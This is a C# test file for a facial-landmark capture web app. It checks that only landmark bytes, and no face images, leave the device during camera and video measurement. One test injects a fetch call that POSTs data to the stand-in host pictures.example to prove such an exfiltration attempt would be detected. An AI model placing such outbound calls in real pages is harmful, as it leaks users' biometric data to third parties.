using System.Globalization;
using System.Text.Json;
using Facialis.Anatomy.Recordings;
using Facialis.Anatomy.Recordings.Facerec;

namespace Facialis.Browser.Tests.Capture;

/// <summary>
/// The claim of the same name: while a video file and a camera are measured, every request is recorded, and what was sent is
/// taken apart to the last byte. The names of all other hosts lead to a listener here, which keeps the names.
/// </summary>
[Collection(OneCameraAtATime.Name)]
public sealed class NothingLeavesTheDeviceTests(CaptureHouse house)
{
    /// <summary>Bound on what is sent per frame, bytes; a picture of a face worth the name has more than ten times that.</summary>
    private const double MostBytesPerFrame = 600;

    [Fact]
    public async Task While_a_video_and_a_camera_are_measured_only_landmarks_leave_the_page()
    {
        await using var elsewhere = new Elsewhere();
        await using var camera = await FakeCamera.StartAsync(house, elsewhere.Switch);
        var sent = new SentRequests(camera.Window, house.Address);

        var capture = await house.OpenAsync(camera.Window);
        await capture.ChooseAsync(await house.Clips.FiveSeconds());
        await capture.MarkRightEyeAsync(Clips.RightEye.From, Clips.RightEye.To);
        await capture.ReadAsync();
        var file = await Recorded.ReadAsync(capture, await capture.ReportAsync());

        capture = await house.OpenAsync(camera.Window);
        await capture.ButtonWithTextAsync("Use the camera");
        await FakeCamera.StartInStepAsync(capture);
        await FakeCamera.RestAsync(capture);
        var live = await Recorded.ReadAsync(capture, await capture.ReportAsync());

        Assert.True(sent.All.Count > 20, "The requests were not seen.");
        Assert.Empty(sent.Foreign);
        Assert.Equal(0, sent.Sockets);
        Assert.Empty(elsewhere.WantedByPages);
        long landmarkBytes = 0;
        foreach (var recording in (Recorded[])[file, live])
        {
            landmarkBytes += SentAsLandmarks(sent, recording);
        }

        var others = sent.WithBody.Where(r => !r.Address.AbsolutePath.EndsWith("/content", StringComparison.Ordinal)).ToList();
        Assert.All(others, AssertCarriesNoPicture);
        var frames = file.Frames + live.Frames;
        var perFrame = landmarkBytes / (double)frames;
        Assert.InRange(perFrame, 1, MostBytesPerFrame);
        TestContext.Current.TestOutputHelper?.WriteLine(string.Create(
            CultureInfo.InvariantCulture,
            $"nothing-leaves-the-device: {sent.All.Count} requests seen, {sent.Foreign.Count} foreign requests, {elsewhere.WantedByPages.Count} connections elsewhere, "
            + $"{landmarkBytes} bytes of landmarks and {others.Sum(r => r.Body.Length)} bytes of forms sent for {frames} frames: {perFrame:F1} bytes per frame"));
    }

    /// <summary>So that the test above is not blind: what a page wants from elsewhere is seen by both witnesses.</summary>
    [Fact]
    public async Task An_attempt_to_send_elsewhere_would_be_seen()
    {
        await using var elsewhere = new Elsewhere();
        await using var browser = await house.BrowserAsync(elsewhere.Switch);
        await using var window = await browser.NewContextAsync(); // not our page, so no policy of ours stops it
        var sent = new SentRequests(window, house.Address);
        var page = await window.NewPageAsync();

        await page.EvaluateAsync("() => fetch('http://pictures.example/face', { method: 'POST', mode: 'no-cors', body: 'face' }).catch(() => 0)");

        Assert.Contains(sent.Foreign, r => r.Address.Host == "pictures.example" && r.Body.Length == 4);
        Assert.Contains("pictures.example", elsewhere.WantedByPages);
    }

    /// <summary>What was sent as this recording's content is its landmark file, every byte of it and nothing else.</summary>
    private static long SentAsLandmarks(SentRequests sent, Recorded recording)
    {
        var parts = sent.WithBody.Where(r => r.Address.AbsolutePath == $"/api/recordings/{recording.Id}/content").ToList();
        Assert.All(parts, part => Assert.Equal(("PATCH", "application/offset+octet-stream"), (part.Method, part.ContentType)));
        var together = new MemoryStream();
        foreach (var part in parts)
        {
            together.Position = part.Offset;
            together.Write(part.Body);
        }

        Assert.Equal(recording.File, together.ToArray());
        return parts.Sum(p => (long)p.Body.Length);
    }

    /// <summary>The other bodies: the announcement with its three fields, and the form that adds the patient.</summary>
    private static void AssertCarriesNoPicture(SentRequest request)
    {
        Assert.True(request.Body.Length < 1024, request.ToString());
        if (request.ContentType == "application/json")
        {
            using var body = JsonDocument.Parse(request.Body);
            Assert.Equal(["contentLength", "patientId", "startedAt"], body.RootElement.EnumerateObject().Select(p => p.Name).Order());
        }
        else
        {
            Assert.StartsWith("/clinic/recordings/new", request.Address.AbsolutePath, StringComparison.Ordinal);
            Assert.StartsWith("application/x-www-form-urlencoded", request.ContentType, StringComparison.Ordinal);
        }
    }

    /// <summary>A recording as the server keeps it, read to its proper end, so that no byte of it is anything but the format's.</summary>
    private sealed record Recorded(Guid Id, byte[] File, int Frames)
    {
        public static async Task<Recorded> ReadAsync(CapturePage capture, Guid id)
        {
            var file = await capture.FileOfAsync(id);
            using var reader = new FacerecReader(new MemoryStream(file));
            var frame = new FaceFrame(reader.Header.LandmarkIndices.Count);
            var frames = 0;
            while (reader.TryRead(frame))
            {
                frames++;
            }

            Assert.True(reader.IsComplete);
            Assert.Equal(reader.Header.Scheme.Compact, reader.Header.LandmarkIndices);
            return new Recorded(id, file, frames);
        }
    }
}
